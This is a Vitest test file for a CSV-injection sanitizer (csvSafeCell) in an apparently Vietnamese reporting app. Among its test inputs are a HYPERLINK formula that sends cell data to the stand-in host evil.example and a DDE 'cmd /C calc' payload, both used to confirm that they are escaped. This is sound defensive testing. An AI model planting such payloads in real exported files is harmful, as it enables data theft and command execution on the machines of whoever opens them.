import { describe, expect, it } from 'vitest'

import { csvSafeCell } from '../../src/domain/csvCells'

describe('csvSafeCell (OWASP CSV injection)', () => {
  it('a note typed as a formula reaches the evaluator’s Excel as text, not as a formula', () => {
    expect(csvSafeCell('=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")')).toBe(
      `'=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")`,
    )
    expect(csvSafeCell('+1+cmd|\' /C calc\'!A0')).toBe(`'+1+cmd|' /C calc'!A0`)
    expect(csvSafeCell('-2+3')).toBe(`'-2+3`)
    expect(csvSafeCell('@SUM(1,2)')).toBe(`'@SUM(1,2)`)
  })

  it('a leading tab or carriage return cannot hide a formula', () => {
    expect(csvSafeCell('\t=1+1')).toBe(`'\t=1+1`)
    expect(csvSafeCell('\r=1+1')).toBe(`'\r=1+1`)
  })

  it('ordinary Vietnamese text, and a formula sign later in the text, are left alone', () => {
    expect(csvSafeCell('Phường Lê Chân')).toBe('Phường Lê Chân')
    expect(csvSafeCell('Tỷ lệ = 97,5%')).toBe('Tỷ lệ = 97,5%')
    expect(csvSafeCell('')).toBe('')
  })

  it('numbers Loa computed stay numbers, negative ones too (a gap to target of −1.250 people)', () => {
    expect(csvSafeCell(-1250)).toBe(-1250)
    expect(csvSafeCell(97.5)).toBe(97.5)
    expect(csvSafeCell(0)).toBe(0)
  })

  it('a number that is not a finite number is written as neutralized text', () => {
    expect(csvSafeCell(-Infinity)).toBe(`'-Infinity`)
    expect(csvSafeCell(NaN)).toBe('NaN')
  })

  it('empty cells and other values pass through unchanged', () => {
    expect(csvSafeCell(null)).toBe(null)
    expect(csvSafeCell(undefined)).toBe(undefined)
    expect(csvSafeCell(true)).toBe(true)
  })
})
